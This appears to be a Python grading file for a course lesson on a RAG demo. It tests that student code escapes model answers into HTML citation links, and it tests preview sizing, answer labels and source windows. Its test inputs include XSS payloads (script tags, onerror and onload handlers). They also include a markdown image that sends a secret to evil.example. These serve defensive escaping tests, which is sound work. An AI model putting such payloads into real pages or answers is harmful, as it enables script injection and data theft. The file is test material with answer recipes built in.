"""Checks for days/day57.ipynb: citations drawn as links with everything else escaped (checked on hostile answers),
how much of each source the list shows (a setting chosen from a measured distribution of source lengths), the banner
a RAG demo shows for an answer (a rule on day 53's flags), and a source's window in its document."""
from __future__ import annotations

import random
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

from aicourse.course.checks import CheckFailed, call, exercise, raised, show

_CITE = re.compile(r"\[([0-9]+)\]")  # the statement's rule: one number in square brackets, nothing else
_ALLOWED_ATTRS = {"href", "title", "class"}


class _Page(HTMLParser):
    "The visible text of an HTML string, and each element with the text offset where it starts and its text."
    def __init__(self, markup: str):
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.elements: list[dict[str, Any]] = []  # tag, attrs, at (offset in text), inner (text inside)
        self.open: list[dict[str, Any]] = []
        self.problems: list[str] = []
        self.feed(markup)
        self.close()
        if self.open:
            self.problems.append(f"<{self.open[-1]['tag']}> is never closed")

    def handle_starttag(self, tag, attrs):
        if tag not in ("a", "s"):
            self.problems.append(f"the page has a <{tag}> tag (only <a> and <s> are allowed)")
        bad = [k for k, _ in attrs if k not in _ALLOWED_ATTRS]
        if bad:
            self.problems.append(f"<{tag}> has the attribute {bad[0]!r}")
        if self.open:
            self.problems.append(f"<{tag}> inside <{self.open[-1]['tag']}>: nothing is nested")
        el = dict(tag=tag, attrs=dict(attrs), at=len(self.text), inner="")
        self.elements.append(el)
        self.open.append(el)

    def handle_startendtag(self, tag, attrs):
        self.problems.append(f"the page has a <{tag}/> tag (only <a> and <s> are allowed)")

    def handle_endtag(self, tag):
        if not self.open or self.open[-1]["tag"] != tag:
            self.problems.append(f"</{tag}> closes nothing")
            return
        self.open.pop()

    def handle_data(self, data):
        self.text += data
        for el in self.open:
            el["inner"] += data


_WORDS = ["Invoices", "are", "kept", "for", "10", "years.", "The", "Pro", "plan", "costs", "12", "euros", "&", "<b>",
          "</b>", "a<b", "x>y", '"quoted"', "it's", "&amp;", "&lt;", "#", "*bold*", "`x[1]`", "100%", "->"]
_HOSTILE = ["<script>alert(1)</script>", '<img src="x" onerror="alert(1)">', "![p](https://evil.example/?d=SECRET)",
            "<a href='https://evil.example'>click</a>", "<s>struck</s>", "<!-- hidden -->", "<style>*{}</style>",
            '"><svg onload=alert(1)>', "&#60;script&#62;", "[1](https://evil.example)", "</a>"]
_NOT_CITES = ["[ 2 ]", "[1, 3]", "[a]", "[]", "[1-3]", "(2)", "[x1]", "[2.5]", "[\u0661]", "[\uff11]"]


def _rand_answer(rng: random.Random, n_max: int) -> str:
    parts = []
    for _ in range(rng.randint(1, 14)):
        r = rng.random()
        if r < 0.4:
            parts.append(rng.choice(_WORDS))
        elif r < 0.65:
            parts.append(f"[{rng.randint(0, n_max + 3)}]")
        elif r < 0.85:
            parts.append(rng.choice(_HOSTILE))
        else:
            parts.append(rng.choice(_NOT_CITES))
    return rng.choice([" ", " ", "", "\n"]).join(parts)


def _verify_links(got: Any, answer: str, numbers: set[int]) -> str | None:
    "None when `got` is a right rendering of `answer`, else what is wrong."
    if not isinstance(got, str):
        return f"it returned {type(got).__name__}, not an HTML string"
    page = _Page(got)
    if page.problems:
        return page.problems[0]
    if page.text != answer:
        return (f"the visible text is {show(page.text)}, not the answer {show(answer)}: escape the text (html.escape) "
                "and keep every character")
    want = [(m.start(), "a" if int(m.group(1)) in numbers else "s", int(m.group(1)), m.group(0))
            for m in _CITE.finditer(answer)]
    have = [(el["at"], el["tag"], el["attrs"].get("href"), el["inner"]) for el in page.elements]
    for w in want:
        match = [h for h in have if h[0] == w[0] and h[3] == w[3]]
        if not match:
            return f"the citation {w[3]} at character {w[0]} is not wrapped in its own <{w[1]}>"
        tag, href = match[0][1], match[0][2]
        if tag != w[1]:
            return (f"{w[3]} is {'a source that was sent: link it' if w[1] == 'a' else 'not among the sources: strike it (<s>), do not link it'}")
        if tag == "a" and href != f"#source-{w[2]}":
            return f"{w[3]} links to {show(href)}, not '#source-{w[2]}'"
    if len(have) != len(want):
        extra = [h for h in have if (h[0], h[3]) not in {(w[0], w[3]) for w in want}]
        return f"{show(extra[0][3]) if extra else 'something'} is wrapped in a tag but is not a citation [n]"
    return None


@exercise("day57.cite_links",
          question="Is every character of the answer escaped (html.escape), including the text between citations? Is "
                   "a number that is not in `numbers` struck with <s> instead of linked? Is '[1, 3]' or '[ 2 ]' (not a "
                   "citation by this rule) left as text? Are the digits ASCII only ([0-9], not \\d), the link's text "
                   "the citation as written ([01] stays [01]) and its href the number's value (#source-1)?",
          recipe="out, pos = [], 0; for m in re.finditer(r'\\[([0-9]+)\\]', answer): out.append(html.escape(answer[pos:m.start()])); "
                 "n = int(m.group(1)); out.append(f'<a href=\"#source-{n}\">{m.group(0)}</a>' if n in numbers else "
                 "f'<s>{m.group(0)}</s>'); pos = m.end(); then out.append(html.escape(answer[pos:])) and join")
def check_cite_links(cite_links: Callable[[str, set[int]], Any], rng: random.Random) -> int:
    cases = [("Invoices are kept for 10 years [1].", {1, 2, 3}), ("", {1}), ("No citation.", set()),
             ("Kept [1] and [7].", {1, 2, 3}), ("Cited [2] but nothing was sent.", set()),
             ("[12] is a two-digit number.", {12}), ("Glued[1][2]", {1, 2}), ("[0] is not a source.", {1}),
             ("Not citations: [1, 3] [ 2 ] [a] [] (2).", {1, 2, 3}),
             ('<script>alert("x")</script> [1]', {1}), ('<img src=x onerror="alert(1)"> [2]', {1}),
             ("See ![p](https://evil.example/?d=SECRET) [1].", {1}), ("5 < 6 & 7 > 3 [1]", {1}),
             ("Quotes \"double\" and 'single' [1].", {1}), ("Already escaped: &lt;b&gt; &amp; [1]", {1}),
             ("Fake link <a href='#source-1'>[1]</a> [2]", {1, 2}), ("Line one [1]\nLine two [3]", {1, 3}),
             ("Padded [01] and [007].", {1}), ("Arabic-Indic [\u0661] and full-width [\uff11] digits.", {1}),
             ("Code spans are not special: `x[1]` [2]", {1, 2})]
    for _ in range(40):
        n = rng.randint(0, 5)
        numbers = set(rng.sample(range(1, 7), n))
        cases.append((_rand_answer(rng, 6), numbers))
    for answer, numbers in cases:
        got = call("cite_links", cite_links, answer, set(numbers))
        problem = _verify_links(got, answer, numbers)
        if problem:
            raise CheckFailed(f"cite_links({show(answer)}, {sorted(numbers)}) returned {show(got)}: {problem}")
    return len(cases)


def _preview(lengths: list[int], pct: int, step: int, cap: int) -> int:
    need = -(-pct * len(lengths) // 100)  # how many sources must be shown whole: ceil(pct% of n), in integers
    longest = sorted(lengths)[need - 1]
    return min(cap, max(step, -(-longest // step) * step))


def _rand_lengths(rng: random.Random) -> list[int]:
    n = rng.choice([1, 2, 3, 5, 10, 20, 37, 100])
    kind = rng.random()
    if kind < 0.3:
        return [rng.randint(0, 900) for _ in range(n)]
    if kind < 0.6:  # many short sources and a long tail, as chunked documents have
        return [int(rng.expovariate(1 / 200)) for _ in range(n)]
    if kind < 0.8:  # near a size limit, as full chunks are
        return [max(0, 600 - int(rng.expovariate(1 / 60))) for _ in range(n)]
    return [rng.choice([0, 20, 40, 100, 280, 300, 600, 601]) for _ in range(n)]  # on and next to the step


@exercise("day57.preview_chars",
          question="Do you count the sources shown whole (length <= the preview) and need at least pct percent of "
                   "them, compared in integers (100 * count >= pct * n, no float rounding)? Do you round UP to a "
                   "multiple of step, return at least step, and cap the result at cap?",
          recipe="need = -(-pct * len(lengths) // 100) (ceil in integers); longest = sorted(lengths)[need - 1]; "
                 "p = max(step, -(-longest // step) * step); return min(p, cap); raise ValueError first for empty "
                 "lengths, a negative length, pct outside 1..100, step < 1 or cap < step")
def check_preview_chars(preview_chars: Callable[..., Any], rng: random.Random) -> int:
    tenths = [20 * i for i in range(1, 101)]  # 100 distinct lengths: pct 7 needs the 7th, not the 8th (0.07 * 100 > 7)
    cases = [([100], 80, 20, 600, None), ([101], 80, 20, 600, "round UP to a multiple of step"),
             ([120], 80, 20, 600, "120 is a multiple of 20 already"), ([0, 0, 0], 80, 20, 600, "at least one step"),
             ([10] * 4 + [1000], 80, 20, 600, "4 of 5 is exactly 80%: enough"),
             ([10] * 3 + [1000] * 2, 80, 20, 600, "3 of 5 is not 80%: the cap applies"),
             ([5, 50, 500], 100, 20, 600, "100%: the longest"), ([5, 50, 500], 1, 20, 600, "1%: the shortest"),
             (tenths, 7, 20, 600, "7% of 100 sources is 7 sources (integers, not 0.07 * 100)"),
             (tenths, 14, 20, 600, "14% of 100 sources is 14 sources (integers, not 0.14 * 100)"),
             (tenths, 80, 20, 10_000, "the cap is far away"), ([599, 601], 100, 20, 600, "over the cap: the cap"),
             ([33, 34], 50, 1, 600, "step 1: the length itself"), ([250, 260], 50, 100, 250, "a cap that is not a multiple of step")]
    for _ in range(60):
        step = rng.choice([1, 5, 10, 20, 50])
        cases.append((_rand_lengths(rng), rng.randint(1, 100), step, rng.choice([step, 280, 600, 1000]), None))
    for lengths, pct, step, cap, why in cases:
        want = _preview(lengths, pct, step, cap)
        got = call("preview_chars", preview_chars, list(lengths), pct, step, cap)
        if isinstance(got, bool) or got != want:
            shown = lengths if len(lengths) <= 12 else f"{len(lengths)} lengths, sorted {sorted(lengths)[:6]}...{sorted(lengths)[-3:]}"
            raise CheckFailed(f"preview_chars({shown}, pct={pct}, step={step}, cap={cap}) returned {show(got)}, "
                              f"expected {want}", f"The rule this case tests: {why}." if why else None)
    for args, why in [(([], 80, 20, 600), "no lengths"), (([10, -1], 80, 20, 600), "a negative length"),
                      (([10], 0, 20, 600), "pct 0"), (([10], 101, 20, 600), "pct 101"), (([10], 80, 0, 600), "step 0"),
                      (([10], 80, 20, 10), "cap < step")]:
        err = raised(preview_chars, *args)
        if not isinstance(err, ValueError):
            raise CheckFailed(f"preview_chars{args} should raise ValueError ({why}); got {show(err) if err else 'no error'}")
    return len(cases) + 6


_LABELS = ("gated", "refused", "invalid", "uncited", "attributed", "cited")


def _label(r: dict[str, Any]) -> str:
    if r["gated"]:
        return "gated"
    if r["refused"]:
        return "refused"
    sent = {s["number"] for s in r["sources"]}
    if any(n not in sent for n in r["cited"]):
        return "invalid"
    if not r["cited"] or r["citations_ok"] is False:  # None: no check ran, as in the lesson
        return "uncited"
    return "attributed" if r["attributed"] else "cited"


def _rand_result(rng: random.Random) -> dict[str, Any]:
    numbers = sorted(rng.sample(range(1, 7), rng.randint(0, 4)))
    sources = [dict(number=n, text=f"text {n}", source="doc.md", start=0, end=6, score=0.5) for n in numbers]
    pool = numbers + [rng.randint(1, 9)] if rng.random() < 0.4 else numbers
    cited = sorted(set(rng.sample(pool, rng.randint(0, len(pool))))) if pool else []
    gated = rng.random() < 0.15
    return dict(answer="...", sources=[] if gated else sources, cited=cited, citations_ok=rng.choice([True, True, False, None]),
                refused=gated or rng.choice([False, False, False, True, None]), gated=gated,
                attributed=rng.choice([True, False, None]))


@exercise("day57.answer_label",
          question="Check the order: gated, then refused, then a cited number that was not sent (invalid), then no "
                   "citation or a failed check (uncited), then attributed, then cited. Do you compare cited numbers "
                   "with the NUMBERS of the sources sent (they need not be 1..n)? Is only citations_ok False a failed "
                   "check (None means no check ran)?",
          recipe="if r['gated']: 'gated'; elif r['refused']: 'refused'; elif any(n not in {s['number'] for s in "
                 "r['sources']} for n in r['cited']): 'invalid'; elif not r['cited'] or r['citations_ok'] is False: "
                 "'uncited'; elif r['attributed']: 'attributed'; else 'cited'")
def check_answer_label(answer_label: Callable[[dict[str, Any]], Any], rng: random.Random) -> int:
    src = [dict(number=n, text="t", source="d", start=0, end=1, score=0.5) for n in (1, 2, 3)]
    base = dict(answer="Kept [1].", sources=src, cited=[1], citations_ok=True, refused=False, gated=False,
                attributed=False)
    cases = [(base, None), ({**base, "attributed": True}, None),
             ({**base, "cited": [1, 7]}, "7 was never sent"), ({**base, "cited": []}, "an answer that cites nothing"),
             ({**base, "citations_ok": False}, "the citation check failed (a sentence cites nothing)"),
             ({**base, "refused": True, "cited": [], "citations_ok": True}, "a refusal needs no citation"),
             ({**base, "gated": True, "refused": True, "sources": [], "cited": []}, "the gate comes first"),
             ({**base, "refused": True, "cited": [9]}, "refused comes before invalid"),
             ({**base, "cited": [4], "attributed": True}, "invalid comes before attributed"),
             ({**base, "sources": [dict(src[0], number=4)], "cited": [4]}, "source numbers need not start at 1"),
             ({**base, "sources": [dict(src[0], number=4)], "cited": [1]}, "1 was not sent here (only 4 was)"),
             ({**base, "citations_ok": False, "attributed": True}, "uncited comes before attributed"),
             ({**base, "cited": [7], "citations_ok": False}, "invalid comes before uncited"),
             ({**base, "citations_ok": None}, "citations_ok None means no check ran: not a failed check"),
             ({**base, "citations_ok": None, "attributed": None, "refused": None}, "None flags are not true")]
    cases += [(_rand_result(rng), None) for _ in range(60)]
    for r, why in cases:
        want = _label(r)
        got = call("answer_label", answer_label, dict(r))
        if got != want:
            question = f"The rule this case tests: {why}." if why else None
            if got not in _LABELS:
                question = f"Return one of {list(_LABELS)}."
            shown = {k: v for k, v in r.items() if k != "answer"}
            shown["sources"] = [s["number"] for s in r["sources"]]
            raise CheckFailed(f"answer_label({show(shown)} (sources shown as their numbers)) returned {show(got)}, "
                              f"expected {want!r}", question)
    return len(cases)


def _window(document: str, start: int, end: int, chars: int) -> tuple[str, str, str]:
    a, b = max(0, start - chars), min(len(document), end + chars)
    before, after = document[a:start], document[end:b]
    if a > 0 and not document[a - 1].isspace():
        cut = next((i for i, ch in enumerate(before) if ch.isspace()), len(before))
        before = before[cut:]
    if b < len(document) and not document[b].isspace():
        cut = max((i for i, ch in enumerate(after) if ch.isspace()), default=-1)
        after = after[:cut + 1]
    return before, document[start:end], after


_TEXT = ("Invoices are kept for 10 years, as Portuguese tax law requires. Server logs are deleted after 90 days.\n"
         "An account that stays inactive for 3 years is deleted with its course progress. Support answers by e-mail.")


@exercise("day57.source_window",
          question="Do you drop the partial word only when the cut falls INSIDE a word (the character just outside "
                   "the window is not whitespace)? Do you keep the whitespace next to the kept words? Do you raise "
                   "ValueError for offsets outside the document, start > end, or chars < 0?",
          recipe="a, b = max(0, start - chars), min(len(doc), end + chars); before, after = doc[a:start], doc[end:b]; "
                 "if a > 0 and not doc[a-1].isspace(): before = before[first whitespace index:] (or '' if none); "
                 "if b < len(doc) and not doc[b].isspace(): after = after[:last whitespace index + 1] (or '' if none)")
def check_source_window(source_window: Callable[[str, int, int, int], Any], rng: random.Random) -> int:
    doc = _TEXT
    s = doc.index("Server")
    e = doc.index("days.") + 5
    cases = [(doc, s, e, 20, None), (doc, s, e, 0, "chars=0: nothing around it"),
             (doc, 0, 8, 15, "the source starts the document: nothing before"),
             (doc, len(doc) - 8, len(doc), 15, "the source ends the document: nothing after"),
             (doc, s, e, 10_000, "a window larger than the document: all of it, no cut"),
             ("abc def ghi", 4, 7, 2, "the cut falls inside 'abc' and 'ghi': drop both partial words"),
             ("abc def ghi", 4, 7, 1, "the window holds only the spaces: keep them"),
             ("abc def ghi", 4, 7, 4, "the window reaches both ends of the document: nothing is cut"),
             ("abcdef", 2, 4, 1, "no whitespace at all in the window: before and after are empty"),
             ("a\nb\tc d", 2, 3, 1, "newlines and tabs are whitespace too"), ("xy", 1, 1, 5, "an empty source")]
    for _ in range(40):
        words = [rng.choice(["a", "bb", "ccc", "dddd", "10", "é", "!"]) for _ in range(rng.randint(1, 12))]
        d = "".join(w + rng.choice([" ", "  ", "\n", ""]) for w in words)
        start = rng.randint(0, len(d))
        end = rng.randint(start, len(d))
        cases.append((d, start, end, rng.randint(0, 12), None))
    for d, start, end, chars, why in cases:
        want = _window(d, start, end, chars)
        got = call("source_window", source_window, d, start, end, chars)
        if not isinstance(got, (tuple, list)) or tuple(got) != want:  # a list of the three is fine too
            question = f"The rule this case tests: {why}." if why else None
            raise CheckFailed(f"source_window({show(d)}, {start}, {end}, {chars}) returned {show(got)}, expected "
                              f"{want!r}", question)
    for args, why in [((doc, -1, 5, 3), "start < 0"), ((doc, 5, len(doc) + 1, 3), "end past the document"),
                      ((doc, 9, 5, 3), "start > end"), ((doc, 0, 5, -1), "chars < 0")]:
        err = raised(source_window, *args)
        if not isinstance(err, ValueError):
            raise CheckFailed(f"source_window(<document>, {args[1]}, {args[2]}, {args[3]}) should raise ValueError "
                              f"({why}); got {show(err) if err else 'no error'}")
    return len(cases) + 4
